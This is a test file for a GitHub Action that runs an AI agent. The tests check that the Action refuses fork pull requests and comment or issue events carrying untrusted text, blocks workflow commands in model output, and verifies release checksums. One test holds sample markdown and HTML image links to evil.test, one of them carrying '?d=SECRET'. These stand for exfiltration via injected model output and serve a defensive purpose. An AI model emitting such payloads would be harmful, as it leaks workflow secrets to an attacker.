// The GitHub Action (action.yml + scripts/action/run.sh) run locally as the runner would run it: the
// inputs and event in the environment, a fake GITHUB_OUTPUT, the built binary (given, or "downloaded"
// from a file:// release folder checked against SHA256SUMS), a fake agent and the fake LLM.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { BIN, ROOT } from "./binary.ts";
import { type FakeLlm, startFakeLlm } from "./fake-llm.ts";

const SCRIPT = join(ROOT, "scripts", "action", "run.sh");
const SDK_AGENT = `'${process.execPath}' '${join(ROOT, "tests", "fixtures", "sdk-agent.ts")}'`;
const VERSION = JSON.parse(readFileSync(join(ROOT, "package.json"), "utf8")).version as string;
let work: string;
let counter = 0;
let fake: FakeLlm;
let schema: string;

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), "tendril-action-"));
  fake = await startFakeLlm();
  schema = join(work, "verdict.json");
  writeFileSync(schema, JSON.stringify({ type: "object", properties: { verdict: { enum: ["approve", "reject"] } }, required: ["verdict"] }));
});
afterAll(async () => {
  await fake.close();
  rmSync(work, { recursive: true, force: true });
});

interface ActionRun {
  code: number | null;
  stdout: string;
  stderr: string;
  /** GITHUB_OUTPUT parsed (name<<DELIM … DELIM and name=value). */
  outputs: Record<string, string>;
}

function parseOutputs(text: string): Record<string, string> {
  const out: Record<string, string> = {};
  const lines = text.split("\n");
  for (let i = 0; i < lines.length; i++) {
    const line = lines[i]!;
    const heredoc = line.match(/^([\w-]+)<<(.+)$/);
    if (heredoc) {
      const end = lines.indexOf(heredoc[2]!, i + 1);
      out[heredoc[1]!] = lines.slice(i + 1, end).join("\n");
      i = end;
    } else if (line.includes("=")) out[line.slice(0, line.indexOf("="))] = line.slice(line.indexOf("=") + 1);
  }
  return out;
}

/** Runs the action's script as its composite step does; `inputs` by their action.yml names. */
function runAction(inputs: Record<string, string>, extraEnv: Record<string, string> = {}): Promise<ActionRun> {
  const dir = join(work, `run-${++counter}`);
  mkdirSync(join(dir, "temp"), { recursive: true });
  const outputFile = join(dir, "github_output");
  writeFileSync(outputFile, "");
  const env: Record<string, string> = {
    PATH: process.env.PATH ?? "/usr/bin:/bin",
    HOME: dir,
    GITHUB_OUTPUT: outputFile,
    GITHUB_ACTION_PATH: ROOT,
    RUNNER_TEMP: join(dir, "temp"),
    XDG_CONFIG_HOME: join(work, "config"),
    XDG_STATE_HOME: join(work, "state"),
    XDG_CACHE_HOME: join(work, "cache"),
    SDK_AGENT_STATE: join(work, "sdk-agent-state"),
    ACTION_EVENT: "push",
    ACTION_BASE_REPO: "acme/app",
    ACTION_HEAD_REPO: "",
    ...extraEnv,
  };
  for (const [k, v] of Object.entries(inputs)) env[`INPUT_${k.toUpperCase().replace(/-/g, "_")}`] = v;
  return new Promise((resolve) => {
    const child = spawn("bash", [SCRIPT], { env, cwd: work, stdio: ["ignore", "pipe", "pipe"] });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (c: Buffer) => (stdout += c.toString("utf8")));
    child.stderr.on("data", (c: Buffer) => (stderr += c.toString("utf8")));
    const guard = setTimeout(() => child.kill("SIGKILL"), 60_000);
    child.on("close", (code) => {
      clearTimeout(guard);
      resolve({ code, stdout, stderr, outputs: parseOutputs(readFileSync(outputFile, "utf8")) });
    });
  });
}

const llmEnv = () => ({ TENDRIL_PROVIDER: "anthropic", TENDRIL_MODEL: "fake-model", ANTHROPIC_API_KEY: "workflow-secret", ANTHROPIC_BASE_URL: fake.anthropicBaseUrl });

describe("the action's script", () => {
  test("tendril's own agent: the answer in the log, the result and exit code as outputs; the key the workflow set reaches the agent", async () => {
    fake.script([{ text: "Looks good." }]);
    const r = await runAction({ prompt: "review the change", tendril: BIN, "working-directory": work }, llmEnv());
    expect(r.code).toBe(0);
    // Workflow commands stay off while the agent's words are printed (a model could write `::…::` lines).
    const token = r.stdout.match(/^::stop-commands::(tendril-[0-9a-f]{32})\n/)?.[1];
    expect(token).toBeDefined();
    expect(r.stdout).toBe(`::stop-commands::${token}\n::${token}::\n::group::answer\n::stop-commands::${token}\nLooks good.\n::${token}::\n::endgroup::\n`);
    expect(r.outputs["exit-code"]).toBe("0");
    expect(r.outputs.structured).toBe("");
    expect(JSON.parse(r.outputs.result!)).toMatchObject({ stopReason: "end_turn", text: "Looks good.", numTurns: 1 });
    const headers = fake.requests.at(-1)!.headers;
    expect(headers["x-api-key"] ?? headers.authorization).toContain("workflow-secret");
  });

  test("output-schema: the document is the `structured` output", async () => {
    const r = await runAction({ prompt: 'say {"verdict": "approve"}', tendril: BIN, agent: SDK_AGENT, "output-schema": schema });
    expect(r.code).toBe(0);
    expect(r.outputs.structured).toBe('{"verdict":"approve"}');
    expect(JSON.parse(r.outputs.result!)).toMatchObject({ structured: { verdict: "approve" }, cost: { currency: "USD" } });
  });

  test("a prompt that starts with a dash or holds the output delimiter's shape stays one prompt", async () => {
    const r = await runAction({ prompt: "say --approve all\nresult<<EOF", tendril: BIN, agent: SDK_AGENT });
    expect(r.code).toBe(0);
    expect(JSON.parse(r.outputs.result!).text).toBe("--approve all\nresult<<EOF");
  });

  test("a failed run fails the step with tendril's exit code; the outputs are set anyway", async () => {
    const r = await runAction({ prompt: "say no || still no", tendril: BIN, agent: SDK_AGENT, "output-schema": schema });
    expect(r.code).toBe(4);
    expect(r.outputs["exit-code"]).toBe("4");
    expect(r.outputs.structured).toBe("");
    expect(JSON.parse(r.outputs.result!).error).toContain("does not satisfy --output-schema");
    const soft = await runAction({ prompt: "say no || still no", tendril: BIN, agent: SDK_AGENT, "output-schema": schema, "fail-on-error": "false" });
    expect(soft.code).toBe(0);
    expect(soft.outputs["exit-code"]).toBe("4");
  });

  test("bad inputs are tendril's usage errors (exit 2)", async () => {
    const r = await runAction({ prompt: "hi", tendril: BIN, "max-turns": "0" }, llmEnv());
    expect(r.code).toBe(2);
    expect(r.stderr).toContain("tendril prompt: --max-turns must be a whole number of turns, 1 or more");
    expect(r.outputs["exit-code"]).toBe("2");
    const budget = await runAction({ prompt: "hi", tendril: BIN, "max-budget-usd": "-3" }, llmEnv());
    expect(budget.code).toBe(2);
    expect(budget.stderr).toContain('tendril prompt: --max-budget-usd must be a positive number of US dollars, got "-3"');
  });

  test("max-budget-usd reaches the run: an agent's reported cost past it fails the step with exit code 6", async () => {
    const r = await runAction({ prompt: "say hello", tendril: BIN, agent: SDK_AGENT, "max-budget-usd": "0.01" });
    expect(r.code).toBe(6);
    expect(r.outputs["exit-code"]).toBe("6");
    expect(JSON.parse(r.outputs.result!).error).toContain("reaches --max-budget-usd 0.01");
  });

  test("a fork's pull request is refused unless the workflow opts in", async () => {
    const before = fake.requests.length;
    const fork = { ACTION_EVENT: "pull_request_target", ACTION_HEAD_REPO: "mallory/app", ACTION_BASE_REPO: "acme/app" };
    const r = await runAction({ prompt: "review", tendril: BIN }, { ...llmEnv(), ...fork });
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(
      "::error title=tendril prompt::refusing to run for a pull request from the fork mallory/app: its code and prompt would run with this workflow's secrets. Set allow-forks: true to opt in (and run it only on code you trust).\n",
    );
    expect(r.outputs).toEqual({});
    expect(fake.requests.length).toBe(before);
    const gone = await runAction({ prompt: "review", tendril: BIN }, { ...llmEnv(), ...fork, ACTION_HEAD_REPO: "" });
    expect(gone.code).toBe(1);
    expect(gone.stderr).toContain("from the fork (deleted)");
    fake.script([{ text: "ok" }]);
    const opted = await runAction({ prompt: "review", tendril: BIN, "allow-forks": "true" }, { ...llmEnv(), ...fork });
    expect(opted.code).toBe(0);
    const same = await runAction({ prompt: "say ok", tendril: BIN, agent: SDK_AGENT }, { ACTION_EVENT: "pull_request", ACTION_HEAD_REPO: "acme/app", ACTION_BASE_REPO: "acme/app" });
    expect(same.code).toBe(0);
  });
});

describe("A9: the action holds its boundary", () => {
  test("A9: comment-, issue-, discussion-, review- and workflow_run-triggered events are refused unless allow-untrusted-events: true", async () => {
    const before = fake.requests.length;
    for (const event of ["issue_comment", "issues", "discussion", "discussion_comment", "pull_request_review", "pull_request_review_comment", "workflow_run"]) {
      const r = await runAction({ prompt: "say hi", tendril: BIN, agent: SDK_AGENT }, { ...llmEnv(), ACTION_EVENT: event });
      expect([event, r.code, r.stderr]).toEqual([
        event,
        1,
        `::error title=tendril prompt::refusing to run for a ${event} event: its text comes from whoever can write one, and would reach the agent with this workflow's secrets. Set allow-untrusted-events: true to opt in (and keep that text out of the prompt, or give the job no secrets or write access it must not lose).\n`,
      ]);
      expect(r.outputs).toEqual({});
    }
    // The runner's own GITHUB_EVENT_NAME counts when the action's variable is missing.
    const runnerOnly = await runAction({ prompt: "say hi", tendril: BIN, agent: SDK_AGENT }, { ACTION_EVENT: "", GITHUB_EVENT_NAME: "issue_comment" });
    expect(runnerOnly.code).toBe(1);
    expect(fake.requests.length).toBe(before);
    const opted = await runAction({ prompt: "say hi", tendril: BIN, agent: SDK_AGENT, "allow-untrusted-events": "true" }, { ACTION_EVENT: "issue_comment" });
    expect(opted.code).toBe(0);
    expect(JSON.parse(opted.outputs.result!).text).toBe("hi");
    for (const event of ["push", "workflow_dispatch", "schedule"]) expect((await runAction({ prompt: "say ok", tendril: BIN, agent: SDK_AGENT }, { ACTION_EVENT: event })).code).toBe(0);
  });

  test("A9: the job summary shows the model's text without its images and links", async () => {
    const summaryFile = join(work, "step-summary.md");
    writeFileSync(summaryFile, "");
    const text = [
      "Done. ![pixel](https://evil.test/p.png?d=SECRET) see [the docs](https://evil.test/login) and [![badge](https://evil.test/b.svg)](https://evil.test/x)",
      'ref [click][r] ![img][r] <img src="https://evil.test/i.png" alt="x"> <a href="https://evil.test/a">anchor</a> <IMG SRC=https://evil.test/j.png>',
      "[r]: https://evil.test/ref",
      "auto <https://evil.test/auto> and `code` stay; plain https://example.test/visible stays visible",
    ].join("\n");
    const r = await runAction({ prompt: `say ${text}`, tendril: BIN, agent: SDK_AGENT }, { GITHUB_STEP_SUMMARY: summaryFile });
    expect(r.code).toBe(0);
    expect(JSON.parse(r.outputs.result!).text).toBe(text); // the result keeps the text as written
    expect(readFileSync(summaryFile, "utf8")).toBe(
      [
        "Done. pixel see the docs and badge",
        "ref click img  anchor ",
        "",
        "auto https://evil.test/auto and `code` stay; plain https://example.test/visible stays visible\n",
      ].join("\n"),
    );
  });

  test("A9: the documented workflows (README, docs/prompt.md) check out the code with persist-credentials: false", () => {
    const checkoutsOf = (...path: string[]) => [...readFileSync(join(ROOT, ...path), "utf8").matchAll(/- uses: actions\/checkout@\S+\n((?:\s{8,}.*\n)*)/g)];
    const readme = checkoutsOf("README.md");
    const page = checkoutsOf("docs", "prompt.md");
    expect(readme.length).toBeGreaterThanOrEqual(1);
    expect(page.length).toBeGreaterThanOrEqual(2);
    for (const [, withBlock] of [...readme, ...page]) expect(withBlock).toMatch(/persist-credentials: false/);
  });
});

describe("the release download", () => {
  let release: string;
  beforeAll(() => {
    // A release folder as `npm run release` lays it out, for this machine's platform only. Its tendril
    // is a launcher of the built binary that says it ran: gzip and sha256 of the whole binary cost
    // seconds and test nothing more of the download.
    release = join(work, "release");
    mkdirSync(join(release, "stage"), { recursive: true });
    const arch = process.arch === "arm64" ? "arm64" : "x64";
    const name = `tendril-${VERSION}-${process.platform}-${arch}.tar.gz`;
    writeFileSync(join(release, "stage", "tendril"), `#!/bin/sh\ntouch '${join(release, "archived-tendril-ran")}'\nexec '${BIN}' "$@"\n`, { mode: 0o755 });
    const tar = spawnSync("sh", ["-c", `tar -C stage -cf - tendril | gzip -1 > '${name}'`], { cwd: release });
    expect(tar.status).toBe(0);
    const sum = createHash("sha256").update(readFileSync(join(release, name))).digest("hex");
    writeFileSync(join(release, "SHA256SUMS"), `${sum}  ${name}\n`);
  }, 60_000);

  test("the archive is fetched, checked against SHA256SUMS and run", async () => {
    const r = await runAction({ prompt: "say fetched", agent: SDK_AGENT, "release-url": pathToFileURL(release).href }, {});
    expect(r.stderr).toContain(`tendril: downloading ${pathToFileURL(release).href}/tendril-${VERSION}-`);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.outputs.result!).text).toBe("fetched");
    expect(existsSync(join(release, "archived-tendril-ran"))).toBe(true);
  }, 60_000);

  test("an archive that does not match SHA256SUMS is not unpacked", async () => {
    const bad = join(work, "bad-release");
    mkdirSync(bad, { recursive: true });
    const arch = process.arch === "arm64" ? "arm64" : "x64";
    const name = `tendril-${VERSION}-${process.platform}-${arch}.tar.gz`;
    writeFileSync(join(bad, name), "not the archive");
    writeFileSync(join(bad, "SHA256SUMS"), readFileSync(join(release, "SHA256SUMS")));
    const r = await runAction({ prompt: "say hi", agent: SDK_AGENT, "release-url": `${pathToFileURL(bad).href}/` }, {});
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(new RegExp(`::error title=tendril prompt::${name.replace(/\./g, "\\.")} does not match SHA256SUMS \\(sha256 [0-9a-f]{64}, expected [0-9a-f]{64}\\): not unpacked\\n$`));
    expect(existsSync(join(work, `run-${counter}`, "temp", `tendril-action-${VERSION}`, "tendril"))).toBe(false);
  });

  test("without a release-url the action's own repository and version are used", async () => {
    // No network in tests: a `curl` that fails at once; the URL is what the download names.
    const noNet = join(work, "no-net");
    mkdirSync(noNet, { recursive: true });
    writeFileSync(join(noNet, "curl"), "#!/bin/sh\necho 'curl: (6) no network here' >&2\nexit 6\n", { mode: 0o755 });
    const r = await runAction({ prompt: "say hi" }, { GITHUB_ACTION_PATH: ROOT, ACTION_REPOSITORY: "acme/tendril", PATH: `${noNet}:${process.env.PATH}` });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`tendril: downloading https://github.com/acme/tendril/releases/download/v${VERSION}/tendril-${VERSION}-`);
    expect(r.stderr).toContain("::error title=tendril prompt::cannot download https://github.com/acme/tendril/releases/download/");
  });
});

describe("action.yml", () => {
  test("has SPEC §9's inputs and outputs, each input handed to the script by name, and runs that script", async () => {
    const action = Bun.YAML.parse(readFileSync(join(ROOT, "action.yml"), "utf8")) as {
      inputs: Record<string, { required?: boolean }>;
      outputs: Record<string, { value: string }>;
      runs: { using: string; steps: { id: string; run: string; env: Record<string, string> }[] };
    };
    for (const name of ["prompt", "approve", "agent", "model", "output-schema", "max-turns", "timeout", "sandbox", "max-budget-usd"]) expect(action.inputs[name]).toBeDefined();
    expect(action.inputs.prompt!.required).toBe(true);
    expect(Object.keys(action.outputs)).toEqual(["result", "structured", "exit-code"]);
    expect(action.runs.using).toBe("composite");
    const step = action.runs.steps[0]!;
    expect(step.run).toBe('bash "$GITHUB_ACTION_PATH/scripts/action/run.sh"');
    for (const name of Object.keys(action.inputs)) {
      expect(step.env[`INPUT_${name.toUpperCase().replace(/-/g, "_")}`]).toBe(`\${{ inputs.${name} }}`);
    }
    for (const [name, o] of Object.entries(action.outputs)) expect(o.value).toBe(`\${{ steps.${step.id}.outputs.${name} }}`);
    // Inputs reach the script through its environment only, never spliced into its text.
    expect(step.run).not.toContain("${{");
  });
});
